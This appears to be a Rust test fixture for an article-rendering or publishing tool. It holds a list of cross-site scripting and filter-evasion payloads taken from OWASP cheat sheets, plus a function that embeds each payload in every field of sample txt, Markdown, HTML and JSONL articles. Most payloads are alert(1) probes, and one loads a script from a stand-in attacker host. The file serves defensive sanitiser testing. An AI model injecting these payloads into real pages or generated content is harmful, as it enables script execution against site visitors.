//! Scripts that try to get into a page as parts of an article.

/// From OWASP's cheat sheets on cross-site scripting and on evading filters.
pub const ALL: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<svg onload=alert(1)><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><input type=submit formaction=\"javascript:alert(1)\"></form>",
    "<div style=\"background:url(javascript:alert(1))\" onmouseover=alert(1)>x</div>",
    "<body onload=alert(1)>",
    "<base href=\"javascript:alert(1)//\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JaVaScRiPt:alert(1))",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](y.png)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "```\"><script>alert(1)</script>\nx\n```",
    "{{< img src=\"javascript:alert(1)\" alt=\"\\\" onerror=alert(1)\" >}}",
    "\"><script>alert(1)</script>",
    "'-alert(1)-'",
    "\u{0}<script>alert(1)</script>",
    "${alert(1)}{{constructor.constructor('alert(1)')()}}",
];

/// Files with the payload wherever an article has text: title, author, tag, link, alt text, code, body.
pub fn files(payload: &str) -> [(&'static str, String); 4] {
    let json = serde_json::to_string(payload).unwrap();
    let escaped = payload.replace('&', "&amp;").replace('"', "&quot;").replace('<', "&lt;");
    [
        ("a.txt", format!("T {payload}\n{payload}\n\n{payload}\n")),
        (
            "a.md",
            format!(
                "---\ntitle: {json}\nauthor: {json}\ntags: [{json}]\nsource: {json}\nslug: {json}\nurl: {json}\nsummary: {json}\nlang: {json}\n---\n\nText {payload}\n\n{payload}\n\n`{payload}`\n\n```{payload}\n{payload}\n```\n"
            ),
        ),
        (
            "a.html",
            format!(
                "<title>{payload}</title><meta name=author content=\"{escaped}\"><link rel=canonical href=\"{escaped}\"><article><h1>{payload} T</h1><p>Text {payload}</p><a href=\"{escaped}\">x</a><img src=\"{escaped}\" alt=\"{escaped}\"><pre><code class=\"language-{escaped}\">{escaped}</code></pre></article>"
            ),
        ),
        (
            "a.jsonl",
            format!(
                "{{\"title\": {json}, \"author\": {json}, \"tags\": [{json}], \"url\": {json}, \"id\": {json}, \"text\": {json}}}\n{{\"title\": {json}, \"html\": {json}, \"summary\": \"x\"}}\n{{\"title\": {json}, \"markdown\": {json}, \"summary\": \"x\"}}\n"
            ),
        ),
    ]
}
